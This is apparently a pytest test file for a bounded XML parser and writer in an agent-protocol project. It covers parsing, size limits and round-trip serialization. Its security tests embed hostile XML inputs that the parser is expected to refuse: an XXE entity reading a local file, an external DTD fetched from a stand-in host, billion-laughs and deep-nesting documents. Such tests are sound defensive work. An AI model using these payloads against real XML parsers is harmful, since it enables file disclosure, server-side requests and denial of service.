"""The bounded XML reader and the XML::Simple-style writer (protocol.md §1.4, security.md S1, T03-T06)."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ocelot.protocol.errors import ProtocolError, TooLargeError
from ocelot.protocol.limits import DEFAULT_LIMITS, Limits
from ocelot.protocol.xmltree import Node, _parse_streaming, _parse_tree, parse_xml, serialize, to_document
from tests.protocol.hostile_payloads import billion_laughs

# ---------------------------------------------------------------- shape


def test_attributes_and_child_elements_are_merged_like_xml_simple():
    root = parse_xml(b'<REQUEST QUERY="DOWNLOAD"><DEVICEID>pc-2024-01-01-00-00-00</DEVICEID></REQUEST>')
    assert root.value("QUERY") == "DOWNLOAD"
    assert root.value("DEVICEID") == "pc-2024-01-01-00-00-00"
    assert root.fields() == {"QUERY": "DOWNLOAD", "DEVICEID": "pc-2024-01-01-00-00-00"}


def test_an_attribute_and_a_child_element_are_the_same_thing():
    as_attribute = parse_xml(b'<REQUEST QUERY="DOWNLOAD"/>')
    as_child = parse_xml(b"<REQUEST><QUERY>DOWNLOAD</QUERY></REQUEST>")
    assert as_attribute.fields() == as_child.fields() == {"QUERY": "DOWNLOAD"}


def test_text_is_stripped_of_surrounding_whitespace():
    root = parse_xml(b"<A>\n  <B>  value  </B>\n</A>")
    assert root.value("B") == "value"


def test_entities_of_the_xml_specification_are_decoded():
    root = parse_xml(b"<A><B>&lt;script&gt; &amp; &quot;x&quot; &#233;</B></A>")
    assert root.value("B") == '<script> & "x" \u00e9'


def test_cdata_is_read_as_text():
    root = parse_xml(b"<A><B><![CDATA[<not markup> & more]]></B></A>")
    assert root.value("B") == "<not markup> & more"


def test_comments_are_ignored():
    root = parse_xml(b"<!-- header --><A><!-- inside --><B>1</B></A>")
    assert root.fields() == {"B": "1"}


def test_children_keep_document_order_and_repeat():
    root = parse_xml(b"<C><S><N>a</N></S><S><N>b</N></S><S><N>c</N></S></C>")
    assert [child.value("N") for child in root.find_all("S")] == ["a", "b", "c"]


def test_control_characters_the_unix_agent_strips_are_stripped():
    root = parse_xml(b"<A><B>x\x01y\x1fz\tw</B></A>")
    assert root.value("B") == "xyz\tw"


def test_every_control_character_but_tab_newline_and_carriage_return_is_stripped():
    controls = bytes(range(0x20))
    root = parse_xml(b"<A><B>x" + controls + b"y</B></A>")
    # A carriage return reaches the parser, which reads it (and CR LF) as a newline.
    assert root.value("B") == "x\t\n\ny"


def test_a_declared_latin1_document_is_decoded_to_unicode():
    root = parse_xml('<?xml version="1.0" encoding="ISO-8859-1"?><A><B>caf\u00e9</B></A>'.encode("latin-1"))
    assert root.value("B") == "caf\u00e9"


def test_utf8_text_is_read_as_unicode():
    root = parse_xml("<A><B>\u65e5\u672c \U0001f600</B></A>".encode())
    assert root.value("B") == "\u65e5\u672c \U0001f600"


# ---------------------------------------------------------------- refused documents


@pytest.mark.parametrize(
    "encoding", ["TF-8", "shift_jis", "utf-7", "utf-32", "rot13", "base64", "idna", "undefined", "x" * 300]
)
def test_a_declared_encoding_the_parser_cannot_read_is_refused_with_400(encoding):
    with pytest.raises(ProtocolError) as caught:
        parse_xml(f'<?xml version="1.0" encoding="{encoding}"?><A>caf\u00e9</A>'.encode("latin-1"))
    assert caught.value.status == 400


def test_bytes_that_do_not_match_the_declared_encoding_are_refused():
    with pytest.raises(ProtocolError):
        parse_xml('<?xml version="1.0" encoding="UTF-8"?><A>caf\u00e9</A>'.encode("latin-1"))


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"not xml at all",
        b"<A><B></A>",
        b"<A>",
        b"<A></A><B></B>",
        b"<A>&undefined;</A>",
        b"\xff\xfe\x00",
        b"<?xml version='1.0'?>",
    ],
    ids=["empty", "text", "mismatched", "unclosed", "two-roots", "undefined-entity", "bad-bytes", "no-root"],
)
def test_malformed_documents_are_refused_with_400(document):
    with pytest.raises(ProtocolError) as caught:
        parse_xml(document)
    assert caught.value.status == 400


def test_a_doctype_is_refused_even_without_entities():
    with pytest.raises(ProtocolError) as caught:
        parse_xml(b"<!DOCTYPE REQUEST><REQUEST/>")
    assert caught.value.reason == "doctype"


def test_an_internal_entity_is_refused():
    with pytest.raises(ProtocolError) as caught:
        parse_xml(b'<!DOCTYPE A [<!ENTITY e "boom">]><A>&e;</A>')
    assert caught.value.reason == "doctype"


def test_an_external_entity_is_refused_without_reading_the_file(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("TOP SECRET")
    document = f'<!DOCTYPE A [<!ENTITY xxe SYSTEM "file://{secret}">]><A>&xxe;</A>'.encode()
    with pytest.raises(ProtocolError) as caught:
        parse_xml(document)
    assert "TOP SECRET" not in str(caught.value)


def test_a_parameter_entity_with_an_out_of_band_dtd_is_refused():
    document = b'<!DOCTYPE A [<!ENTITY % dtd SYSTEM "http://192.0.2.1/evil.dtd"> %dtd;]><A/>'
    with pytest.raises(ProtocolError):
        parse_xml(document)


def test_billion_laughs_is_refused_at_once():
    start = time.monotonic()
    with pytest.raises(ProtocolError):
        parse_xml(billion_laughs())
    assert time.monotonic() - start < 1


def test_a_doctype_after_an_xml_declaration_is_refused():
    with pytest.raises(ProtocolError):
        parse_xml(b'<?xml version="1.0"?>\n<!DOCTYPE REQUEST SYSTEM "request.dtd">\n<REQUEST/>')


# ---------------------------------------------------------------- limits


def test_nesting_deeper_than_the_limit_is_refused_without_recursion_error():
    depth = 10_000
    document = b"<A>" * depth + b"</A>" * depth
    with pytest.raises(ProtocolError) as caught:
        parse_xml(document)
    assert caught.value.reason == "too_deep"


def test_nesting_up_to_the_limit_is_accepted():
    limits = Limits(max_depth=5)
    assert parse_xml(b"<A>" * 5 + b"</A>" * 5, limits).tag == "A"
    with pytest.raises(ProtocolError):
        parse_xml(b"<A>" * 6 + b"</A>" * 6, limits)


def test_more_elements_than_the_limit_is_refused_with_413():
    limits = Limits(max_elements=100)
    assert len(parse_xml(b"<A>" + b"<B/>" * 99 + b"</A>", limits).children) == 99
    with pytest.raises(TooLargeError) as caught:
        parse_xml(b"<A>" + b"<B/>" * 100 + b"</A>", limits)
    assert caught.value.status == 413


def test_a_text_longer_than_the_limit_is_refused_with_413():
    limits = Limits(max_text=1000)
    assert parse_xml(b"<A>" + b"x" * 1000 + b"</A>", limits).text == "x" * 1000
    with pytest.raises(TooLargeError) as caught:
        parse_xml(b"<A>" + b"x" * 1001 + b"</A>", limits)
    assert caught.value.reason == "value_too_long"


def test_a_text_split_by_comments_still_counts_whole():
    limits = Limits(max_text=1000)
    with pytest.raises(TooLargeError):
        parse_xml(b"<A>" + (b"x" * 400 + b"<!-- -->") * 3 + b"</A>", limits)


def test_an_attribute_longer_than_the_limit_is_refused():
    limits = Limits(max_text=1000)
    with pytest.raises(TooLargeError):
        parse_xml(b'<A B="' + b"x" * 1001 + b'"/>', limits)


def test_element_and_attribute_names_longer_than_the_limit_are_refused():
    limits = Limits(max_name=20)
    assert parse_xml(b"<" + b"A" * 20 + b' B="1"/>', limits).attrib == {"B": "1"}
    for document in (
        b"<" + b"A" * 21 + b"/>",
        b"<A " + b"B" * 21 + b'="1"/>',
        b"<A><" + b"C" * 21 + b"/></A>",
    ):
        with pytest.raises(ProtocolError) as caught:
            parse_xml(document, limits)
        assert caught.value.reason == "name_too_long"


def test_too_many_attributes_on_one_element_are_refused():
    limits = Limits(max_attributes=10)
    attributes = b" ".join(b'a%d="1"' % i for i in range(11))
    with pytest.raises(ProtocolError):
        parse_xml(b"<A " + attributes + b"/>", limits)


# ---------------------------------------------------------------- writing


def test_serialize_writes_attributes_text_and_children():
    node = Node(
        "REPLY",
        children=[
            Node("RESPONSE", text="SEND"),
            Node("OPTION", children=[Node("NAME", text="DOWNLOAD"), Node("PARAM", attrib={"ON": "1"})]),
        ],
    )
    root = parse_xml(to_document(node))
    assert root.value("RESPONSE") == "SEND"
    option = root.find("OPTION")
    assert option is not None
    assert option.value("NAME") == "DOWNLOAD"
    param = option.find("PARAM")
    assert param is not None
    assert param.attrib == {"ON": "1"}


def test_a_document_starts_with_a_utf8_xml_declaration():
    assert to_document(Node("REPLY")).startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n')


def test_markup_in_values_is_escaped():
    node = Node("A", attrib={"Q": '"><script>&'}, children=[Node("B", text="</B><C>&amp;")])
    text = serialize(node)
    assert "<script>" not in text and "<C>" not in text
    root = parse_xml(text.encode())
    assert root.attrib["Q"] == '"><script>&'
    assert root.value("B") == "</B><C>&amp;"


# XML 1.0 cannot carry the C0 controls (other than tab, newline, carriage return), surrogates
# or U+FFFE/U+FFFF; the reader strips surrounding whitespace from text.
_XML_CHARS = st.characters(
    codec="utf-8",
    exclude_characters="\ufffe\uffff",
    min_codepoint=0x20,
)


@given(st.text(st.one_of(_XML_CHARS, st.sampled_from("\t\n\r")), max_size=200).map(str.strip))
def test_any_text_value_round_trips_through_serialize_and_parse(value):
    node = Node("A", children=[Node("B", text=value)])
    assert parse_xml(to_document(node)).value("B") == value


@given(st.text(st.one_of(_XML_CHARS, st.sampled_from("\t\n\r")), max_size=200))
def test_any_attribute_value_round_trips_through_serialize_and_parse(value):
    node = Node("A", attrib={"V": value})
    assert parse_xml(to_document(node)).attrib["V"] == value


# ---------------------------------------------------------------- the two readers

CAPTURED = sorted((Path(__file__).parents[1] / "data").glob("*.xml"))


@pytest.mark.parametrize("path", CAPTURED, ids=[path.name for path in CAPTURED])
def test_both_readers_build_the_same_tree_for_every_captured_payload(path):
    # ElementTree builds ordinary documents, the streaming builder everything else: an
    # agent must never see a difference between them.
    data = path.read_bytes()
    fast, streaming = _parse_tree(data, DEFAULT_LIMITS), _parse_streaming(data, DEFAULT_LIMITS)
    # Fields first: read before ``children`` turns the fast reader's (tag, text) pairs
    # into Nodes (xmltree.Node), as the inventory reader reads them.
    assert _fields_everywhere(fast) == _fields_everywhere(streaming)
    assert fast == streaming


def _fields_everywhere(root: Node) -> list[tuple[str, dict[str, str], str | None, str | None]]:
    """Each element's fields() and value() of its first and last field names, depth first,
    without asking an element for its children before its fields were read."""
    found = []
    stack = [root]
    while stack:
        node = stack.pop()
        fields = node.fields()
        names = list(fields) or ["NONE"]
        found.append((node.tag, fields, node.value(names[0]), node.value(names[-1])))
        stack.extend(reversed(node.children))
    return found


def test_mixed_text_around_children_is_read_alike_by_both_readers():
    data = b"<A> one <B>x</B> two <C/> three </A>"
    fast, streaming = _parse_tree(data, DEFAULT_LIMITS), _parse_streaming(data, DEFAULT_LIMITS)
    assert fast == streaming
    assert fast.text == "one  two  three"


def test_a_document_with_too_many_elements_is_never_built_whole():
    # Too many element ends for the cap: it goes to the streaming builder, which stops at
    # the limit instead of building a million elements first.
    limits = Limits(max_elements=1000)
    document = b"<A>" + b"<B/>" * 1_000_000 + b"</A>"
    with pytest.raises(TooLargeError) as caught:
        parse_xml(document, limits)
    assert caught.value.reason == "too_many_elements"


def test_fields_of_plain_leaves_keep_xml_simple_rules_in_both_readers():
    # The fast reader keeps plain leaves as pairs: an attribute still wins over a child of
    # its name, the first of two children of one name wins, and asking for the children
    # afterwards gives the same Nodes as the streaming reader's.
    data = b'<A X="attribute"><X>child</X><Y>1</Y><Y>2</Y><Z/></A>'
    fast, streaming = _parse_tree(data, DEFAULT_LIMITS), _parse_streaming(data, DEFAULT_LIMITS)
    for root in (fast, streaming):
        assert root.fields() == {"X": "attribute", "Y": "1", "Z": ""}
        assert (root.value("X"), root.value("Y"), root.value("Z"), root.value("W")) == (
            "attribute",
            "1",
            "",
            None,
        )
    assert [(child.tag, child.text) for child in fast.children] == [
        ("X", "child"),
        ("Y", "1"),
        ("Y", "2"),
        ("Z", ""),
    ]
    assert fast == streaming
